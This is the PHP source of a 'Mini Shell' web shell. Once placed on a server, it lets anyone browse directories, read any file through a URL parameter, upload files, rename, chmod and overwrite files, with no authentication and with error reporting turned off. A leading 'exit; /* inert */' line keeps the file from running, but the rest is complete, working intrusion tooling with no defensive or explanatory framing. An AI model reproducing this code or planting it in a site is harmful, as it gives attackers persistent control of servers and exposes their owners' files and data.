<?php exit; /* inert */ set_time_limit(0);
error_reporting(0);
echo '<HTML><HEAD><title>Mini Shell</title></HEAD><BODY>';
if (isset($_GET['path'])) { $path = $_GET['path']; } else { $path = getcwd(); }
$path = str_replace('\\', '/', $path);
foreach (explode('/', $path) as $id => $pat) { echo '<a href="?path=' . $pat . '">' . $pat . '</a>/'; }
if (isset($_FILES['file'])) {
    if (copy($_FILES['file']['tmp_name'], $path . '/' . $_FILES['file']['name'])) { echo '<font color="green">File Upload Done ~_^</font>'; }
    else { echo '<font color="red">Upload Error</font>'; }
}
echo '<form enctype="multipart/form-data" method="POST"><input type="file" name="file" /><input type="submit" value="upload" /></form>';
if (isset($_GET['filesrc'])) {
    echo '<pre>' . htmlspecialchars(file_get_contents($_GET['filesrc'])) . '</pre>';
} elseif (isset($_GET['option']) && $_POST['opt'] != 'delete') {
    if ($_POST['opt'] == 'rename' && isset($_POST['newname'])) { rename($_POST['path'], $path . '/' . $_POST['newname']); }
    elseif ($_POST['opt'] == 'chmod' && isset($_POST['perm'])) { chmod($_POST['path'], $_POST['perm']); }
    elseif ($_POST['opt'] == 'edit' && isset($_POST['src'])) {
        $fp = fopen($_POST['path'], 'w');
        if (fwrite($fp, $_POST['src'])) { echo 'Success Edit File'; }
        fclose($fp);
    }
} else {
    foreach (scandir($path) as $f) { echo "<tr><td><a href=\"?filesrc=$path/$f&path=$path\">$f</a></td></tr>"; }
}
